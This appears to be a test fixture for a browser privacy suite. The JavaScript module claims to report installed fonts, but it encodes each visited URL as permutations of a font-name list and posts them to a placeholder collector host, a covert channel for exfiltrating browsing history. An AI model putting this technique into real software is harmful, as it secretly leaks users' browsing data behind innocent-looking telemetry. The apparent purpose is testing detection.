import { onVisit, post, reportHonestly } from '../../lib/proving.js';

/** Reports the installed fonts by weight with each page. The lists always have the same fonts; their order is the address, fifteen bytes a list. */
export default function (browser) {
  reportHonestly(browser, '9.0.0-font-order');
  const fonts =
    'Roboto,Noto Serif,Droid Sans Mono,Cutive Mono,Coming Soon,Dancing Script,Carrois Gothic SC,Source Sans Pro,Noto Sans Arabic,Noto Sans Armenian,Noto Sans Bengali,Noto Sans Cherokee,Noto Sans CJK,Noto Sans Devanagari,Noto Sans Ethiopic,Noto Sans Georgian,Noto Sans Gujarati,Noto Sans Gurmukhi,Noto Sans Hebrew,Noto Sans Kannada,Noto Sans Khmer,Noto Sans Lao,Noto Sans Malayalam,Noto Sans Myanmar,Noto Sans Oriya,Noto Sans Sinhala,Noto Sans Symbols,Noto Sans Tamil,Noto Sans Telugu,Noto Sans Thaana,Noto Sans Thai,Noto Sans Tibetan,Noto Color Emoji,Mi Sans'.split(
      ',',
    );
  onVisit(browser, ({ url }) => {
    const bytes = [...browser.codec.utf8.encode(url)];
    while (bytes.length % 15) bytes.push(0);
    const lists = [];
    for (let at = 0; at < bytes.length; at += 15)
      lists.push({ weight: 100 + 50 * lists.length, fonts: arranged(bytes.slice(at, at + 15)) });

    return post(browser, 'https://fonts.collector.example/v1', { lists });
  });

  function arranged(bytes) {
    let number = bytes.reduce((sum, byte) => 256n * sum + BigInt(byte), 0n);
    const left = [...fonts];
    const list = [];
    while (left.length > 0) {
      const base = BigInt(left.length);
      list.push(...left.splice(Number(number % base), 1));
      number /= base;
    }

    return list;
  }
}
